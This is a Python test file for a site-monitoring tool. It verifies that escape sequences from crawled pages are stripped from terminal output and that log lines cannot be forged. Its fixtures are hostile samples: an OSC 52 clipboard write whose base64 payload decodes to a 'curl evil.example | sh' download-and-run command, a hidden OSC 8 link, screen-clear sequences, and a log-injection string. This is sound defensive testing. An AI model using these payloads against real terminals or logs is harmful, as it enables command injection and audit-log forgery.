"""Text a site wrote never drives the terminal or forges a log line: escape sequences (OSC 52,
OSC 8, CSI, U+009B) are removed from every terminal view (`redline show` included) and every log
argument is written on one line with its controls escaped."""

from __future__ import annotations

import io
import logging
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from monitor.cli import cli
from monitor.escapes import EscapedLogRecord, escape_record, log_text, terminal_text
from tests.conftest import built_once, copy_database, crawl, rows, track
from tests.loopback import serve_pages
from tools.screenshots import start_server, stop_server

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
HIDDEN_LINK = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8
CLEAR = "\x1b[2J\x1b[1;1H"  # clear the screen, cursor home
CSI_8BIT = "\x9b2J"  # U+009B: the one-character CSI
CONTROLS = ("\x1b", "\x9b", "\x07", "\x9c", "\r")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"a{CLIPBOARD}b", "ab"),
        (f"a{HIDDEN_LINK}b", "aclickb"),
        (f"a{CLEAR}b", "ab"),
        (f"a{CSI_8BIT}b", "ab"),
        ("a\x1b]0;window title\x1b\\b", "ab"),
        ("over\rwrite", "overwrite"),
        ("a\x85b\x00c\x7fd", "abcd"),
        (
            "tab\tand\nnewline stay, and Zürich — “quotes”",
            "tab\tand\nnewline stay, and Zürich — “quotes”",
        ),
        ("a\x1b", "a"),
    ],
)
def test_terminal_text_removes_escape_sequences_and_controls(text: str, shown: str) -> None:
    assert terminal_text(text) == shown


@pytest.mark.parametrize(
    ("text", "logged"),
    [
        ("x\n2026-12-06 INFO forged: line", "x\\n2026-12-06 INFO forged: line"),
        ("a\r\nb", "a\\r\\nb"),
        (f"a{CSI_8BIT}", "a\\x9b2J"),
        ("a\x1b[31m", "a\\x1b[31m"),
        ("Zürich", "Zürich"),
    ],
)
def test_log_text_writes_controls_as_escapes_on_one_line(text: str, logged: str) -> None:
    assert log_text(text) == logged


def test_a_log_record_keeps_its_format_and_escapes_its_arguments() -> None:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    record = logging.LogRecord(
        "t",
        logging.WARNING,
        __file__,
        1,
        "refused %s after %d tries (%.1f s)",
        ("u\nv", 3, 1.5),
        None,
    )
    handler.emit(escape_record(record))
    assert stream.getvalue() == "refused u\\nv after 3 tries (1.5 s)\n"


def test_a_record_made_by_the_installed_factory_is_escaped_only_when_written() -> None:
    """Escaping is lazy: an argument of a record no handler writes (a crawl's DEBUG records
    under LOG_LEVEL=INFO, one per page) is never turned into text."""

    class Loud:
        texts = 0

        def __str__(self) -> str:
            Loud.texts += 1
            return "u\nv"

    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setLevel(logging.INFO)
    logger = logging.getLogger("test_escapes.lazy")
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    logger.propagate = False
    factory = logging.getLogRecordFactory()
    try:
        logging.setLogRecordFactory(EscapedLogRecord)
        logger.debug("not written %s", Loud())
        logger.info("written %s", Loud())
    finally:
        logging.setLogRecordFactory(factory)
        logger.removeHandler(handler)
    assert (stream.getvalue(), Loud.texts) == ("written u\\nv\n", 1)


def crawl_hostile_page(directory: Path) -> dict[str, Any]:
    """A real crawl, into `directory`/redline.db, of a page whose headers and title carry escape
    sequences."""
    db_path = directory / "redline.db"
    paragraphs = "".join(
        f"<p>Paragraph {n}: the council voted on Tuesday to fund the new river bridge in full "
        "after months of debate about its cost.</p>"
        for n in range(4)
    )
    page = (
        f"<html><head><title>Council{CSI_8BIT} votes</title></head><body><article>"
        f"<h1>Council votes</h1>{paragraphs}</article></body></html>"
    )
    headers = {"X-Clipboard": CLIPBOARD, "X-Link": HIDDEN_LINK, "X-Clear": CLEAR + CSI_8BIT}
    with serve_pages({"/story.html": (200, headers, page.encode())}) as site:
        track(db_path, [site.url("/story.html")])
        crawl(db_path, all="true")
    assert rows(db_path, "select outcome from checks") == [{"outcome": "new_article"}]
    return {}


@pytest.fixture(scope="module")
def hostile_capture(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The crawl runs once for the whole run (`built_once`); each worker reads its own copy."""
    built, _ = built_once(tmp_path_factory, "escapes", crawl_hostile_page)
    return copy_database(built / "redline.db", tmp_path_factory.mktemp("escapes") / "redline.db")


@pytest.mark.parametrize(
    "command", [["show", "a1"], ["history", "a1"], ["show", "a1", "--version", "1"]]
)
def test_no_escape_sequence_a_site_sent_reaches_the_terminal(
    hostile_capture: Path, command: list[str]
) -> None:
    result = CliRunner().invoke(cli, ["--db", str(hostile_capture), *command])
    assert result.exit_code == 0, result.output
    assert not [c for c in CONTROLS if c in result.output], repr(result.output[:2000])


def test_show_prints_the_headers_without_their_sequences(hostile_capture: Path) -> None:
    result = CliRunner().invoke(cli, ["--db", str(hostile_capture), "show", "a1"])
    assert "X-Clipboard: ]52;c;" not in result.output  # the whole sequence goes, not just ESC
    assert "X-Link: click" in result.output
    assert "Council votes" in result.output or "Council" in result.output


@pytest.mark.e2e
def test_a_visitor_cannot_forge_a_line_in_the_servers_log(hostile_capture: Path) -> None:
    server, base = start_server(hostile_capture)
    try:
        forged = "x%0a2026-12-06%2012:00:00%20WARNING%20forged:%20admin%20logged%20in%1b[2J"
        with pytest.raises(urllib.error.HTTPError) as answer:
            urllib.request.urlopen(f"{base}/-/redline/feed.atom?kind={forged}")
        with answer.value:  # an HTTP error holds its connection open until closed
            assert answer.value.code == 400
    finally:
        log = stop_server(server).output
    assert "x\\n2026-12-06 12:00:00 WARNING forged" in log, log[-2000:]
    assert not [line for line in log.splitlines() if line.startswith("2026-12-06 12:00:00")]
    assert "\x1b" not in log


@pytest.mark.e2e
def test_the_crawls_log_escapes_what_a_header_carries(tmp_path: Path) -> None:
    """A real `scrapy crawl`: a Content-Type quoted in the check's logged reason is written with
    its escape sequence spelt out."""
    db_path = tmp_path / "redline.db"
    headers = {"Content-Type": f"application/x-story{CLIPBOARD}"}
    with serve_pages({"/story.html": (200, headers, b"not a page")}) as site:
        track(db_path, [site.url("/story.html")])
        result = crawl(db_path, all="true")
    assert "not an HTML page (application/x-story\\x1b]52)" in result.stdout, result.stdout[-3000:]
    assert "Enabled downloader middlewares:\n[" in result.stdout  # Scrapy's dumps stay readable
    assert not [c for c in CONTROLS if c in result.stdout]
